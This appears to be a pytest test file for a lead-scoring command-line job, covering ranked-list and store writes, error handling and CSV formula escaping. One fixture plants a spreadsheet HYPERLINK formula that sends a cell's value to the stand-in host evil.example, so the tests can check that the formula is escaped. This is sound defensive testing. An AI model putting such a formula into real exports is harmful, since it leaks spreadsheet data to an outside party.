"""The `leadml score` job: the list written safely, the store filled, flat exports read."""

from __future__ import annotations

import errno
import os
import signal
import sqlite3
import subprocess
import sys
import time
from datetime import datetime
from pathlib import Path
from typing import BinaryIO

import pandas as pd
import pytest

from leadml.bundle import save_bundle
from leadml.config import Config, ScoreConfig, StoreConfig, load_config
from leadml.data.load import Dataset
from leadml.data.mapping.config import FlatColumn
from leadml.errors import InputError, WriteError
from leadml.jobs.output import BatchOutcome, list_table
from leadml.jobs.score import run_batch
from leadml.model.pipeline import TrainedModel
from leadml.ranked import PREVIOUS_GRADE, RANKED_COLUMNS
from leadml.store import StoreError, batch_summary, lead_detail, open_store, ranked
from tests.flat_export import synthetic_export, write_export
from tests.machine import run_leadml, small_disk
from tests.store.test_migrations import contents, made_before_migrations

PII = ("contact_name", "email", "phone")


@pytest.mark.slow
def test_leadml_score_end_to_end(
    small_data_dir: Path, trained: TrainedModel, tmp_path: Path
) -> None:
    bundle = save_bundle(trained.bundle, tmp_path / "bundle")
    out = tmp_path / "lists" / "ranked.csv"
    store = f"sqlite:///{tmp_path / 'scores.db'}"
    args = ["--data", str(small_data_dir), "--model", str(bundle), "--as-of", "latest"]
    done = run_leadml("score", *args, "--out", str(out), "--store", store, cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Top 10 leads" in done.stdout and "Grades: A" in done.stdout
    listed = pd.read_csv(out)
    assert list(listed.columns) == [*RANKED_COLUMNS, *PII]
    assert listed["rank"].tolist() == list(range(1, len(listed) + 1))
    assert listed["reasons"].str.len().gt(0).all()
    engine = open_store(store)
    try:
        rows, total = ranked(engine, limit=3)
        assert total == len(listed)
        assert [r["lead_id"] for r in rows] == listed["lead_id"].head(3).tolist()
        detail = lead_detail(engine, str(listed["lead_id"].iloc[0]))
        assert detail is not None and detail["trend"] == "new"
    finally:
        engine.dispose()
    before = out.read_bytes()

    # Bad input: a clear one-line error, exit 1, and the previous list left intact.
    failed = run_leadml("score", *args[:4], "--as-of", "someday", "--out", str(out), cwd=tmp_path)
    assert failed.returncode == 1
    assert "--as-of" in failed.stderr and "Traceback" not in failed.stderr
    assert out.read_bytes() == before
    assert sorted(p.name for p in out.parent.iterdir()) == ["ranked.csv"]

    top = tmp_path / "top.parquet"
    small = run_leadml(
        "score", *args, "--out", str(top), "--top", "5", "--no-store", "--grades", "batch",
        "--columns", "email", cwd=tmp_path,
    )  # fmt: skip
    assert small.returncode == 0, small.stdout + small.stderr
    listed_top = pd.read_parquet(top)
    assert list(listed_top.columns) == [*RANKED_COLUMNS, "email"]
    assert len(listed_top) == 5


def test_score_help_has_an_example() -> None:
    from typer.testing import CliRunner

    from leadml.cli import app

    result = CliRunner().invoke(app, ["score", "--help"])
    assert result.exit_code == 0, result.output
    assert "Example" in result.output and "--as-of" in result.output


@pytest.mark.parametrize("as_of", ["2026-01-01", "latest"])
def test_as_of_on_a_flat_export_is_refused_not_ignored(
    tmp_path: Path, as_of: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A flat export is as of the day it was exported: an explicit --as-of cannot hold."""
    from typer.testing import CliRunner

    from leadml.cli import app
    from leadml.config import load_config

    export = tmp_path / "export.csv"
    export.write_text("id,views\nA,3\nB,5\n", encoding="utf-8")
    config = load_config(project_dir=tmp_path)
    with pytest.raises(InputError, match="--as-of cannot be applied to a flat export") as info:
        run_batch(export, config, model=str(tmp_path / "no-model"), as_of=as_of, store=False)
    assert info.value.value == as_of and info.value.file == export
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(
        app, ["score", "--data", str(export), "--as-of", as_of, "--no-store"]
    )
    assert result.exit_code == 1
    assert "--as-of" in result.output + str(result.exception)


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


@pytest.fixture(scope="module")
def flat_project(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Config, Path]:
    """A flat export (Email, Phone: role pii) with a formula as one open lead's company,
    and a flat model trained on it."""
    from leadml.data.mapping.read import read_flat
    from leadml.model.flat_pipeline import fit_and_evaluate_flat

    folder = tmp_path_factory.mktemp("flat")
    frame = synthetic_export(1500, seed=4)
    frame.loc[frame.index[frame["Converted"] == "0"][0], "Company Name"] = EVIL
    config = load_config(
        write_export(folder, frame),
        overrides={"train": {"bootstrap_rounds": 0, "shap_sample": 100, "num_threads": 1}},
    )
    assert config.dataset is not None
    trained = fit_and_evaluate_flat(read_flat(folder / "export.csv", config.dataset), config)
    return folder, config, save_bundle(trained.bundle, folder / "bundle")


def _flat_run(
    flat_project: tuple[Path, Config, Path], name: str, score: ScoreConfig | None = None
) -> tuple[pd.DataFrame, str]:
    folder, config, bundle = flat_project
    url = f"sqlite:///{folder / name}.db"
    update: dict[str, object] = {"store": StoreConfig(url=url)}
    if score is not None:
        update["score"] = score
    out = folder / name / "ranked.csv"
    run_batch(folder / "export.csv", config.model_copy(update=update), model=str(bundle), out=out)
    return pd.read_csv(out, dtype=str, keep_default_na=False), url


def test_flat_contact_details_follow_the_ranked_columns(
    flat_project: tuple[Path, Config, Path],
) -> None:
    """Sales act on the list: the mapping's pii and passthrough columns are copied to it
    (and the store) by default; [score] pass_through adds other columns of the file."""
    listed, url = _flat_run(flat_project, "default")
    contact = ["Company Name", "Email", "Phone"]  # the bundle's mapping order
    assert list(listed.columns) == [*RANKED_COLUMNS, *contact]
    assert listed["Email"].str.endswith("@example.com").all()
    engine = open_store(url)
    try:
        summary = batch_summary(engine)
        assert summary is not None and summary["batch"]["pass_through"] == contact
        rows, _ = ranked(engine, limit=None)
        assert rows[0]["Email"].endswith("@example.com")
    finally:
        engine.dispose()
    more, _ = _flat_run(flat_project, "more", ScoreConfig(pass_through=("Notes", "absent")))
    assert list(more.columns) == [*RANKED_COLUMNS, *contact, "Notes"]


def test_flat_score_reads_the_dataset_file_when_data_is_not_given(
    flat_project: tuple[Path, Config, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`leadml score` without --data reads [dataset] file, against the config's folder."""
    from typer.testing import CliRunner

    from leadml.cli import app

    folder, config, bundle = flat_project
    given, _ = _flat_run(flat_project, "given")
    monkeypatch.chdir(folder.parent)  # the file is found from the config, not the cwd
    out = folder / "implicit" / "ranked.csv"
    result = CliRunner().invoke(
        app,
        ["score", "--config", str(folder / "leadml.toml"), "--model", str(bundle),
         "--out", str(out), "--no-store"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output + repr(result.exception)
    implicit = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert implicit["lead_id"].tolist() == given["lead_id"].tolist()
    with pytest.raises(InputError, match="no data to score"):
        run_batch(None, load_config(project_dir=folder / "empty"), store=False)


def test_flat_list_csv_escapes_formulas_and_filters_sources_as_written(
    flat_project: tuple[Path, Config, Path],
) -> None:
    listed, url = _flat_run(flat_project, "escaped")
    evil = listed[listed["Company Name"].str.contains("HYPERLINK")]
    assert len(evil) == 1
    assert evil["Company Name"].iloc[0] == evil["company"].iloc[0] == "'" + EVIL
    engine = open_store(url)
    try:
        rows, _ = ranked(engine, q="HYPERLINK")
        assert [r["company"] for r in rows] == [EVIL]  # the store keeps the real value
        summary = batch_summary(engine)
        assert summary is not None and "Google" in summary["sources"]
        for name, n in summary["sources"].items():  # what the sales page passes back
            found, total = ranked(engine, limit=None, source=name)
            assert total == n == len(found) > 0
            assert {r["lead_source"] for r in found} == {name}
    finally:
        engine.dispose()


def test_score_refuses_an_out_of_date_store_before_any_work(
    flat_project: tuple[Path, Config, Path],
) -> None:
    folder, _config, bundle = flat_project
    _flat_run(flat_project, "stale")  # a list at --out and a store, both written once
    out, url = folder / "stale" / "ranked.csv", f"sqlite:///{folder / 'stale'}.db"
    engine = open_store(url)
    try:
        made_before_migrations(engine)  # the store as the code before migrations left it
        stored = contents(engine)
    finally:
        engine.dispose()
    listed, stamp = out.read_bytes(), out.stat().st_mtime_ns
    args = ["--data", str(folder / "export.csv"), "--model", str(bundle), "--out", str(out)]
    # The message is longer than run_leadml's default 200 columns.
    refused = run_leadml("score", *args, "--store", url, cwd=folder, columns=1000)
    assert refused.returncode == 1, refused.stdout + refused.stderr
    lines = refused.stderr.strip().splitlines()
    # One line, and no step line before it: the model was never loaded, nothing scored.
    assert len(lines) == 1 and lines[0].startswith("error: the scores store"), refused.stderr
    assert "run `leadml store upgrade`" in lines[0] and "Nothing was read or scored" in lines[0]
    assert out.read_bytes() == listed and out.stat().st_mtime_ns == stamp
    assert sorted(p.name for p in out.parent.iterdir()) == ["ranked.csv"]
    engine = open_store(url)
    try:
        assert contents(engine) == stored
    finally:
        engine.dispose()


def test_a_store_that_goes_stale_mid_run_writes_no_list(
    flat_project: tuple[Path, Config, Path],
) -> None:
    """The store passes the check at the start, then another process changes its schema
    while the leads are scored: the write refuses, and the staged list is not put in place."""
    folder, config, bundle = flat_project
    url = f"sqlite:///{folder / 'raced'}.db"
    engine = open_store(url)  # a store at this leadml's revision
    out = folder / "raced" / "ranked.csv"

    def meanwhile(message: str) -> None:
        if message == "writing the scores store":
            made_before_migrations(engine)

    raced = config.model_copy(update={"store": StoreConfig(url=url)})
    try:
        with pytest.raises(StoreError) as refused:
            run_batch(folder / "export.csv", raced, model=str(bundle), out=out, on_step=meanwhile)
        assert contents(engine)["score_batches"] == []
    finally:
        engine.dispose()
    message = str(refused.value)
    assert "\n" not in message and "Nothing was written to the store." in message
    assert message.endswith(f"No ranked list was written to {out}.")
    # The list is staged inside the store's transaction, which refused: no list, no temp file.
    assert not out.parent.exists() or list(out.parent.iterdir()) == []


def _same_batch(out: Path, url: str) -> dict[str, object]:
    """The list file and the store's latest batch are one batch: same time, same leads."""
    listed = pd.read_csv(out, dtype=str, keep_default_na=False)
    engine = open_store(url)
    try:
        summary = batch_summary(engine)
        rows, total = ranked(engine, limit=None)
    finally:
        engine.dispose()
    assert summary is not None
    batch = summary["batch"]
    assert batch["n_leads"] == total == len(listed)
    assert pd.Timestamp(batch["scored_at"]) == pd.Timestamp(listed["scored_at"].iloc[0])
    assert [r["lead_id"] for r in rows] == listed["lead_id"].tolist()
    return dict(batch)


def test_a_read_only_store_keeps_the_old_list_and_says_so_in_one_line(
    flat_project: tuple[Path, Config, Path],
) -> None:
    folder, _config, bundle = flat_project
    _listed, url = _flat_run(flat_project, "readonly")  # a list and a store, one batch
    out = folder / "readonly" / "ranked.csv"
    first = _same_batch(out, url)
    listed, stamp = out.read_bytes(), out.stat().st_mtime_ns
    read_only = f"sqlite:///file:{folder / 'readonly'}.db?mode=ro&uri=true"
    args = ["--data", str(folder / "export.csv"), "--model", str(bundle), "--out", str(out)]
    # The message is longer than run_leadml's default 200 columns.
    refused = run_leadml("score", *args, "--store", read_only, cwd=folder, columns=1000)
    assert refused.returncode == 1, refused.stdout + refused.stderr
    errors = [line for line in refused.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and refused.stderr.strip().endswith(errors[0]), refused.stderr
    assert errors[0].startswith("error: writing the batch to the scores store")
    assert "attempt to write a readonly database" in errors[0]
    assert "make the store file and its folder writable" in errors[0]
    kept = f"--store. The ranked list {out} was left as it was, so it still matches the store."
    assert errors[0].endswith(kept) and "Traceback" not in refused.stderr
    assert out.read_bytes() == listed and out.stat().st_mtime_ns == stamp
    assert [p.name for p in out.parent.iterdir()] == ["ranked.csv"]  # no temp file left
    assert _same_batch(out, url) == first


def test_a_full_disk_for_the_list_is_one_line_and_changes_neither_output(
    flat_project: tuple[Path, Config, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    folder, config, bundle = flat_project
    url = f"sqlite:///{folder / 'full'}.db"
    full = config.model_copy(update={"store": StoreConfig(url=url)})
    with small_disk(folder / "full") as mounted:  # 64 KB: the list is bigger
        out = folder / "full" / "ranked.csv"
        out.write_text("rank,lead_id\n", encoding="utf-8")  # an earlier list
        if not mounted:  # no tmpfs for this user: the write itself reports ENOSPC
            real = pd.DataFrame.to_csv

            def no_space(self: pd.DataFrame, fh: BinaryIO, **kwargs: object) -> None:
                real(self.head(10), fh, **kwargs)  # type: ignore[arg-type]
                raise OSError(errno.ENOSPC, "No space left on device")

            monkeypatch.setattr(pd.DataFrame, "to_csv", no_space)
        with pytest.raises(WriteError) as failed:
            run_batch(folder / "export.csv", full, model=str(bundle), out=out)
        message = str(failed.value)
        assert "\n" not in message
        assert message.startswith(f"cannot write the ranked list {out}: the disk is full;")
        assert out.read_text(encoding="utf-8") == "rank,lead_id\n"
        assert [p.name for p in out.parent.iterdir()] == ["ranked.csv"]
    engine = open_store(url)
    try:
        assert batch_summary(engine) is None  # the list failed first: no batch stored
    finally:
        engine.dispose()


def test_kill_9_during_the_store_write_leaves_list_and_store_agreeing(
    flat_project: tuple[Path, Config, Path],
) -> None:
    """`leadml score` is killed while it waits for the store's write lock (held here): the
    list is staged only inside the store's transaction, so nothing of the new batch is
    anywhere, and the list and the store still hold the previous batch."""
    folder, config, bundle = flat_project
    _listed, url = _flat_run(flat_project, "killed")
    out, database = folder / "killed" / "ranked.csv", folder / "killed.db"
    first = _same_batch(out, url)
    lock = sqlite3.connect(database, isolation_level=None)
    lock.execute("BEGIN IMMEDIATE")  # the store's write lock, until ROLLBACK
    args = ["--data", str(folder / "export.csv"), "--model", str(bundle), "--out", str(out)]
    score = subprocess.Popen(
        [sys.executable, "-m", "leadml_serve.cli", "score", *args, "--store", url],
        cwd=folder,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        _wait_for_step("writing the scores store", score)
        time.sleep(0.5)  # inside write_batch, waiting on the lock
        os.kill(score.pid, signal.SIGKILL)
        assert score.wait(timeout=60) == -signal.SIGKILL
    finally:
        if score.poll() is None:
            score.kill()
            score.wait()
        lock.execute("ROLLBACK")
        lock.close()
    assert _same_batch(out, url) == first
    assert [p.name for p in out.parent.iterdir()] == ["ranked.csv"]  # no temp file
    raced = config.model_copy(update={"store": StoreConfig(url=url)})
    run_batch(folder / "export.csv", raced, model=str(bundle), out=out)
    assert [p.name for p in out.parent.iterdir()] == ["ranked.csv"]
    assert _same_batch(out, url)["batch_id"] == first["batch_id"] + 1  # type: ignore[operator]


def _wait_for_step(step: str, process: subprocess.Popen[bytes]) -> None:
    """Read the process's step lines until `step` (fails if the process ends first)."""
    assert process.stderr is not None
    seen = b""
    for line in iter(process.stderr.readline, b""):
        seen += line
        if step.encode() in line:
            return
    raise AssertionError(f"leadml score ended before {step!r}: {seen!r}")


def test_score_warns_in_one_line_when_the_config_mapping_differs_from_the_model(
    flat_project: tuple[Path, Config, Path],
) -> None:
    folder, config, bundle = flat_project
    assert config.dataset is not None
    same = run_batch(folder / "export.csv", config, model=str(bundle), store=False)
    assert not any("mapping" in w for w in same.batch.warnings)
    columns = dict(config.dataset.columns)
    columns.pop("Employees")
    columns["Lead Status"] = FlatColumn(role="source", type="categorical")
    columns["Page Views"] = FlatColumn(role="ignore")
    edited = config.model_copy(
        update={"dataset": config.dataset.model_copy(update={"columns": columns})}
    )
    outcome = run_batch(folder / "export.csv", edited, model=str(bundle), store=False)
    notes = [w for w in outcome.batch.warnings if "[dataset] mapping" in w]
    assert len(notes) == 1 and "\n" not in notes[0]
    assert "features only in the config: Lead Status" in notes[0]
    assert "features only in the model: Employees, Page Views" in notes[0]
    assert outcome.batch.frame["model_version"].nunique() == 1  # the model's mapping scored


@pytest.fixture(scope="module")
def two_batches(
    small_data_dir: Path,
    small_data: Dataset,
    trained: TrainedModel,
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[Path, Config, Path, list[BatchOutcome]]:
    """Two `leadml score` runs into one store, 30 days apart: a CSV, then an Excel list."""
    folder = tmp_path_factory.mktemp("two_batches")
    bundle = save_bundle(trained.bundle, folder / "bundle")
    config = load_config(
        None,
        project_dir=folder,
        overrides={"store": {"url": f"sqlite:///{folder / 'scores.db'}"}},
    )
    last = small_data.leads["created_at"].max()
    runs = [
        ((last - pd.Timedelta(days=30)).strftime("%Y-%m-%d"), folder / "first.csv"),
        (last.strftime("%Y-%m-%d"), folder / "second.xlsx"),
    ]
    outcomes = [
        run_batch(small_data_dir, config, model=str(bundle), as_of=moment, out=out)
        for moment, out in runs
    ]
    return folder, config, bundle, outcomes


def test_trend_agrees_between_the_list_files_and_the_store(
    two_batches: tuple[Path, Config, Path, list[BatchOutcome]],
) -> None:
    from openpyxl import load_workbook

    folder, config, _bundle, (first, second) = two_batches
    listed = pd.read_csv(folder / "first.csv", dtype={"lead_id": str})
    assert (listed["trend"] == "new").all() and listed["previous_score"].isna().all()
    sheet = load_workbook(folder / "second.xlsx", read_only=True).active
    assert sheet is not None
    header, *cells = [list(row) for row in sheet.iter_rows(values_only=True)]
    excel = pd.DataFrame(cells, columns=header)
    assert list(excel.columns) == list(RANKED_COLUMNS) + list(PII)
    top = dict(zip(header, cells[0], strict=True))  # typed cells, as openpyxl reads them
    assert isinstance(top["score"], int) and isinstance(top["probability"], float)
    assert isinstance(top["scored_at"], datetime) and isinstance(top["rank"], int)
    assert not excel["phone"].dropna().str.startswith("'").any()
    before = listed.set_index("lead_id")
    both = excel[excel["lead_id"].isin(before.index)]
    assert len(both) > 100 and set(both["trend"]) >= {"improving", "declining", "steady"}
    assert both["previous_score"].tolist() == before.loc[both["lead_id"], "score"].tolist()
    new = excel[~excel["lead_id"].isin(before.index)]
    assert len(new) and (new["trend"] == "new").all() and new["previous_score"].isna().all()
    # The store, the API's source, says the same for every lead of the latest batch.
    engine = open_store(config.store_url)
    try:
        rows, total = ranked(engine, limit=len(excel))
    finally:
        engine.dispose()
    assert total == len(excel)
    stored = pd.DataFrame(rows).set_index("lead_id").loc[excel["lead_id"]]
    assert stored["trend"].tolist() == excel["trend"].tolist()
    same = stored["previous_score"].fillna(-1).to_numpy() == excel["previous_score"].fillna(-1)
    assert same.all()
    # The returned batch (what the webhook reads) carries the previous grade too.
    frame = second.batch.frame.set_index("lead_id")
    was = first.batch.frame.set_index("lead_id")["grade"]
    assert frame.loc[both["lead_id"], PREVIOUS_GRADE].tolist() == was[both["lead_id"]].tolist()
    assert frame.loc[new["lead_id"], PREVIOUS_GRADE].isna().all()


def test_no_store_reads_the_trend_from_the_store_and_renames_columns(
    two_batches: tuple[Path, Config, Path, list[BatchOutcome]], small_data_dir: Path
) -> None:
    folder, config, bundle, (_first, second) = two_batches
    renamed = config.model_copy(
        update={
            "score": ScoreConfig(
                columns={"score": "Lead_Score__c", "reason_1": "Why__c"}, csv_formula_guard=False
            )
        }
    )
    out = folder / "again.csv"
    moment = second.batch.as_of.strftime("%Y-%m-%d")
    done = run_batch(small_data_dir, renamed, model=str(bundle), as_of=moment, out=out, store=False)
    listed = pd.read_csv(out, dtype={"lead_id": str})
    assert "Lead_Score__c" in listed and "Why__c" in listed and "score" not in listed
    # Same moment and model as the store's latest batch: every lead is steady against it.
    assert (listed["trend"] == "steady").all()
    assert (listed["previous_score"] == listed["Lead_Score__c"]).all()
    assert done.batch_id is None and (done.batch.frame["trend"] == "steady").all()
    parquet = folder / "again.parquet"
    run_batch(small_data_dir, renamed, model=str(bundle), as_of=moment, out=parquet, store=False)
    assert list(pd.read_parquet(parquet).columns) == [*RANKED_COLUMNS, *PII]  # canonical


@pytest.mark.parametrize(
    ("renames", "said"),
    [
        ({"scroe": "Score__c"}, ("'scroe'", "does not have", *RANKED_COLUMNS, *PII)),
        ({"score": "grade"}, ("'grade'", "another column")),
    ],
)
def test_a_bad_column_rename_is_one_line_before_any_work(
    small_data_dir: Path, tmp_path: Path, renames: dict[str, str], said: tuple[str, ...]
) -> None:
    config = load_config(None, project_dir=tmp_path, overrides={"score": {"columns": renames}})
    with pytest.raises(InputError) as caught:
        run_batch(small_data_dir, config, model="models:/nothing@champion", out=tmp_path / "x.csv")
    message = str(caught.value)
    assert "\n" not in message and "[score.columns]" in message
    assert all(part in message for part in said)
    assert list(tmp_path.iterdir()) == []  # refused before any work


def test_the_csv_formula_guard_can_be_turned_off(tmp_path: Path) -> None:
    from tests.store.test_store import make_batch

    batch = make_batch(4, companies=["=1+1", "+44 20 7946 0000", "@SUM(A1)", "Plain"])
    for guard, expected in ((True, "'=1+1"), (False, "=1+1")):
        config = load_config(
            None, project_dir=tmp_path, overrides={"score": {"csv_formula_guard": guard}}
        )
        table = list_table(batch, config, tmp_path / "ranked.csv", None)
        companies = table.set_index("lead_id")["company"]
        assert companies["L00000"] == expected
        assert companies["L00001"] == "+44 20 7946 0000"  # a phone number is never touched
